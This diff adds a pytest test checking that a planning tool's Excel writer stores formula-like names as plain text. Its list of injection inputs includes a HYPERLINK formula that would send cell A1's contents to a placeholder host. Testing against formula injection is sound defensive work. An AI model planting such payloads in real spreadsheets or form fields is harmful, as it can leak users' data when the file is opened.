@@ -514,3 +514,35 @@ def test_names_no_font_has_print_with_a_warning_naming_each(planned, tmp_path, t
     assert (tmp_path / "d.pdf").stat().st_size > 1000
     assert "缺字「😀」" in err and "王😀" in err and "𠀀" in err
     assert not any(ord(ch) < 32 and ch != "\n" for ch in err)
+
+
+# --- every writer: user text stays text ---------------------------------------------------------------------------
+
+RISKY = ['=HYPERLINK("http://x?leak="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "＝1+1", "#N/A"]
+
+
+def formula_parts(path: Path) -> list[str]:
+    with zipfile.ZipFile(path) as z:
+        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", z.read(n))]
+
+
+def test_the_plan_workbook_writes_formula_like_names_as_text(tmp_path, capsys):
+    import copy
+
+    from tests.planning.conftest import SMALL
+
+    data = copy.deepcopy(SMALL)
+    for i, candidate in enumerate(data["candidates"]):
+        candidate["name"] = RISKY[i % len(RISKY)]
+        candidate["institution"] = RISKY[(i + 1) % len(RISKY)]
+    for i, member in enumerate(data["staff"]):
+        member["name"] = RISKY[i % len(RISKY)]
+    scenario = tmp_path / "scenario.json"
+    scenario.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    out = tmp_path / "编排.xlsx"
+    status, _out, err = run(["plan", scenario, "--seed", "1", "--xlsx", out], capsys)
+    assert status == 0, err
+    assert formula_parts(out) == []
+    with zipfile.ZipFile(out) as z:
+        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "HYPERLINK".encode() in sheets and "＝1+1".encode() in sheets
